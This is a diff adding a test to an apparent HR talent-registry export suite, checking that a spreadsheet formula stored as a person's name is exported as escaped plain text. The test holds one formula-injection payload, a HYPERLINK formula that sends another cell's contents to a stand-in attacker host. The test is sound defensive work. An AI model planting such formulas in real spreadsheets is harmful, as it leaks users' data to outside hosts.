@@ -58,6 +58,19 @@ def test_the_talent_registry_has_vietnamese_headers_numbers_and_real_dates(auth,
     error_of(auth.as_("hr").get(f"{API}/talents.xlsx?lang=fr"), 422)
 
 
+def test_a_name_that_reads_like_a_formula_is_exported_as_the_text_it_is(auth, store):
+    trap = '=HYPERLINK("http://evil.example/?"&B3,"x")'
+    with store.command() as conn:
+        registry.add_talent(conn, full_name=trap, category="expert", recognised_on=date(2024, 9, 2), unit="SGDDT",
+                            decision_no="-12/QĐ")
+    sheet = workbook(auth.as_("hr").get(f"{API}/talents.xlsx")).worksheets[0]
+    name, decision = sheet["B2"], sheet["I2"]
+    assert (name.value, name.data_type) == (trap, "s")  # a text cell, not a live formula
+    assert name.quotePrefix  # and Excel keeps it text when someone edits it
+    assert (decision.value, decision.data_type, decision.quotePrefix) == ("-12/QĐ", "s", True)
+    assert (sheet["D2"].value, sheet["D2"].quotePrefix) == ("SGDDT", False)  # ordinary text as it was
+
+
 def test_the_appointments_register_says_whether_by_exam_and_whether_a_first_appointment(auth):
     assert auth.as_("hr").post(f"{API}/appointments", json=APPOINTMENT).status_code == 201
     assert auth.as_("hr").post(f"{API}/appointments", json={**APPOINTMENT, "person_name": "Đỗ Hà",
